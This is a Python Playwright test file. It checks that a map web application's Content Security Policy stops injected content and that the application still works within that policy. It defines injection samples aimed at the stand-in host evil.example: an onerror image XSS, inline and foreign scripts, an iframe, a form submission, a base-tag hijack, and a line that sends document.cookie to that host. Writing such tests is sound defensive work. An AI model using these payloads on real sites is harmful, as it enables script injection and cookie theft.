"""The page keeps to its own policy, which stops what somebody else brings in."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Frame, Page

from tests.browser.conftest import Visit
from tests.browser.reader import Reader, wait_in
from tests.browser.server import Server
from tests.made_package import NAME as MADE

_LISTEN = """(() => {
  const found = (window.violations ??= []);
  document.addEventListener('securitypolicyviolation', (event) => {
    found.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`);
  });
})()"""
_IMAGE = """() => {
  const box = document.createElement('div');
  box.innerHTML = '<img src="data:," onerror="window.hacked = 1">';
  document.body.append(box);
}"""
_INLINE = """() => {
  const script = document.createElement('script');
  script.textContent = 'window.hacked = 2';
  document.body.append(script);
}"""
_FOREIGN = """() => {
  const script = document.createElement('script');
  script.src = 'https://evil.example/x.js';
  document.body.append(script);
}"""
_FRAMED = """() => {
  const frame = document.createElement('iframe');
  frame.src = 'https://evil.example/';
  document.body.append(frame);
}"""
_PICTURE = """() => { new Image().src = 'https://evil.example/?' + document.cookie; }"""
_FETCH = """() => { fetch('https://evil.example/?secret').catch(() => {}); }"""
_SENT = """() => {
  const form = document.createElement('form');
  form.action = 'https://evil.example/';
  document.body.append(form);
  form.submit();
}"""
_BASE = """() => {
  const base = document.createElement('base');
  base.href = 'https://evil.example/';
  document.head.append(base);
}"""
_ATTACKS = {
    "script-src-attr": _IMAGE,
    "script-src-elem": _INLINE,
    "script-src-elem https://evil.example/x.js": _FOREIGN,
    "frame-src": _FRAMED,
    "img-src": _PICTURE,
    "connect-src": _FETCH,
    "form-action": _SENT,
    "base-uri": _BASE,
}


def _violations(reader: Reader) -> list[str]:
    found = reader.page.evaluate("window.violations")
    assert found is not None
    return [*found, *reader.frame.evaluate("window.violations")]


def _watched(visit: Visit, link: str = "") -> Reader:
    """Follow a link in a browser that notes what the policies refuse, from the first byte on."""
    reader = visit(link, permissions=["clipboard-read", "clipboard-write"])
    reader.page.context.add_init_script(_LISTEN)
    return reader.open(link)


def test_the_whole_page_works_within_its_policy(visit: Visit) -> None:
    reader = _watched(visit, "event=eu-summit")
    page = reader.page
    reader.until("seen.mapped.length > 0 && seen.opened")
    reader.drag_map(-120, 60)
    reader.in_map(".leaflet-control-zoom-out").click()
    reader.in_map(".cm-legend-handle").click()
    reader.symbol("Brussels").hover()
    reader.choose("types", "Statement")
    reader.until("seen.address.includes('type=statement')")
    reader.type_into("from", "2016-12-15")
    reader.until("seen.address.includes('from=2016-12-15')")
    reader.pill(0).click()
    for summary in page.locator(".ch-sheet details summary").all():
        summary.click()
    page.get_by_role("button", name="Share").click()
    page.get_by_role("button", name="Copy link").click()
    page.get_by_text("Link copied").wait_for()
    with page.expect_download() as download:
        page.locator('a[data-format="csv"]').click()
    assert download.value.failure() is None
    page.keyboard.press("Escape")
    assert reader.now()["failed"] is False
    assert _violations(reader) == []


def test_a_large_data_set_works_within_it(visit: Visit) -> None:
    reader = _watched(visit, f"dataset={MADE}")
    reader.until("seen.counts.certain > 0 && !seen.counting")
    assert _violations(reader) == []


def test_an_online_base_map_is_allowed_once_it_is_chosen(visit: Visit) -> None:
    reader = _watched(visit, "base=street")
    hosts = frozenset({"tile.openstreetmap.org"})
    reader.page.route(
        lambda url: not url.startswith(reader.base), lambda route: route.fulfill(status=204)
    )
    assert reader.watch.foreign == []
    reader.watch.agreed = hosts
    with reader.page.expect_request(lambda request: "openstreetmap" in request.url):
        reader.in_map(".cm-confirm").click()
    reader.until("seen.base === 'street'")
    assert _violations(reader) == []


@pytest.mark.parametrize("directive", list(_ATTACKS))
@pytest.mark.parametrize("within", ["page", "map"])
def test_what_is_injected_neither_runs_nor_reaches_anybody(
    visit: Visit, directive: str, within: str
) -> None:
    reader = _watched(visit)
    where: Page | Frame = reader.page if within == "page" else reader.frame
    where.evaluate(_LISTEN)
    where.evaluate(_ATTACKS[directive])
    refused = "(start) => window.violations.some((each) => each.startsWith(start))"
    if within == "map" and directive == "frame-src":
        refused = "() => window.violations.some((each) => each.startsWith('frame-src'))"
    assert wait_in(where, refused, directive), where.evaluate("window.violations")
    assert where.evaluate("window.hacked") is None
    assert reader.watch.foreign == []
    reader.watch.errors.clear()  # the browser says what it refused, as it should


def test_the_page_stands_in_no_other_sites_frame(visit: Visit, server: Server) -> None:
    reader = visit()
    other = reader.page.context.new_page()
    port = server.base.rpartition(":")[2]
    other.route(
        "http://other.localhost/**",
        lambda route: route.fulfill(
            content_type="text/html", body=f'<iframe src="http://localhost:{port}/"></iframe>'
        ),
    )
    said: list[Any] = []
    other.on("console", lambda message: said.append(message.text))
    other.goto("http://other.localhost/")
    refused = "() => document.querySelector('iframe').contentDocument === null"
    assert wait_in(other, refused)
    assert any("frame-ancestors" in text for text in said), said
    other.close()
